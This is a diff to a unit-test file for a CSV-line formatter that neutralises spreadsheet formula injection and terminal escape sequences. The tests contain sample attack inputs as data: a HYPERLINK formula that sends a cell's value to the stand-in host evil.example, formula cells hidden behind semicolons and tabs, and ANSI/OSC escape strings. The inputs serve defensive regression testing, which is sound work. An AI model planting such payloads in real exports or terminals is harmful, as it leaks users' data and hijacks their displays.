@@ -29,15 +29,22 @@ describe("formatCsvLine", () => {
         "@SUM(A1)",
         "\tx",
       ]),
-    ).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1+cmd,\'-2+3,\'@SUM(A1),\'\tx');
+    ).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1+cmd,\'-2+3,\'@SUM(A1),"\'\tx"');
     // Numbers, and text that only holds such a character later, stay as they are.
     expect(formatCsvLine([-5, "req-1", "a=b", "0.000026"])).toBe("-5,req-1,a=b,0.000026");
+  });
+
+  // Regression (found by an explorer): unquoted, `x;=1+1` split on `;` was a cell `=1+1`.
+  it("quotes cells holding a semicolon or a tab, which spreadsheets set to split on them read as separators", () => {
+    expect(formatCsvLine(["x;=1+1", "x\t=1+1", "x;@SUM(1)", "a;b", "plain"])).toBe(
+      '"x;=1+1","x\t=1+1","x;@SUM(1)","a;b",plain',
+    );
   });
 
   it("writes control characters as \\u001b and the like, so a terminal shown a report is not driven by a client's user field", () => {
     const user = "\u001b[2J\u001b]0;PWNED\u0007\u001b[31mevil\u009b";
     expect(formatCsvLine([user, "tab\tok"])).toBe(
-      "\\u001b[2J\\u001b]0;PWNED\\u0007\\u001b[31mevil\\u009b,tab\tok",
+      '"\\u001b[2J\\u001b]0;PWNED\\u0007\\u001b[31mevil\\u009b","tab\tok"',
     );
   });
 });
